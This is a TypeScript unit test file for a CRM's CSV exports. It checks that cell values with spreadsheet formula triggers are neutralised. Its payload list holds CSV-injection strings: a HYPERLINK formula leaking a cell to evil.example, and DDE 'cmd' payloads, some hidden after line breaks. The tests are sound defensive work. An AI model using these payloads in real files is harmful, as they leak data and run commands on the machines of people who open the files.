import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { contactsToCsv } from '@/lib/crm/worker/export/csv';
import type { HistoryEntry } from '@/lib/history/entry';
import { historyToCsv } from '@/lib/history/worker/export';
import { neutraliseFormulae } from '@/lib/platform/ui/spreadsheet-cell';
import { contact } from '@/test/unit/crm/fixtures';

/**
 * Payloads a spreadsheet would run (OWASP "CSV injection"), alone and hidden after a line
 * break inside a quoted cell, where a line-splitting importer or a paste would meet them.
 */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1',
  '\r=cmd',
  'ok\n=HYPERLINK("http://evil.example","x")',
  'ok\r\n+cmd',
  'ok\r-cmd',
  'ok\n\t=1',
  'first\nsecond\n@third',
  '=a\nb',
];

const TRIGGER = /^[=+\-@\t\r]/;

/** Every line of the cell as a line-splitting reader would see it: none may start a formula. */
function expectInert(cell: string): void {
  for (const line of cell.split(/\r\n|\n|(?<=\r)/)) expect(line, JSON.stringify(cell)).not.toMatch(TRIGGER);
}

describe('neutraliseFormulae', () => {
  it.each<[string, string]>([
    ['=1+1', "'=1+1"],
    ['\t=1', "'\t=1"],
    ['\r=cmd', "'\r'=cmd"],
    ['ok\n=HYPERLINK(1)', "ok\n'=HYPERLINK(1)"],
    ['ok\r\n+cmd', "ok\r\n'+cmd"],
    ['ok\r-cmd', "ok\r'-cmd"],
    ['a\n\n@b', "a\n\n'@b"],
    ['Jane Doe', 'Jane Doe'],
    ['a - b = c', 'a - b = c'],
    ['', ''],
  ])('%j → %j', (input, expected) => {
    expect(neutraliseFormulae(input)).toBe(expected);
  });

  it.each(PAYLOADS)('%j: no line starts a formula', (payload) => {
    expectInert(neutraliseFormulae(payload));
  });

  it('E.164 numbers stay as they are only where asked, and only when they are numbers', () => {
    expect(neutraliseFormulae('+14155550110; +33123456789', { keepPhoneNumbers: true })).toBe('+14155550110; +33123456789');
    expect(neutraliseFormulae('+14155550110')).toBe("'+14155550110");
    expect(neutraliseFormulae('+1+1', { keepPhoneNumbers: true })).toBe("'+1+1");
    expect(neutraliseFormulae('+14155550110\n=cmd', { keepPhoneNumbers: true })).toBe("+14155550110\n'=cmd");
  });
});

function historyEntry(text: string): HistoryEntry {
  return { id: 'h1', op: 'enrichPerson', subject: text, input: {}, identity: null, outcome: 'failed', cost: 0, fromLedger: false, paidAt: null, at: 0, pageUrl: null, error: { kind: 'x', message: text } };
}

describe('exports read back as a spreadsheet would', () => {
  it.each(PAYLOADS)('history CSV, %j', (payload) => {
    const { data } = Papa.parse<Record<string, string>>(historyToCsv([historyEntry(payload)]), { header: true });
    expectInert(data[0]!.subject!);
    expectInert(data[0]!.error!);
    // The text is kept, behind its quote.
    expect(data[0]!.subject!.replace(/'/g, '')).toBe(payload.replace(/'/g, ''));
  });

  it.each(PAYLOADS)('contacts CSV, %j', (payload) => {
    const { data } = Papa.parse<Record<string, string>>(contactsToCsv([{ ...contact(), jobTitle: payload, location: payload }]), { header: true });
    expectInert(data[0]!.job_title!);
    expectInert(data[0]!.location!);
  });

  it('contacts CSV leaves phone numbers readable by a CRM import', () => {
    const { data } = Papa.parse<Record<string, string>>(contactsToCsv([contact()]), { header: true });
    expect(data[0]!.mobile_phone).toBe('+14155550110');
  });
});
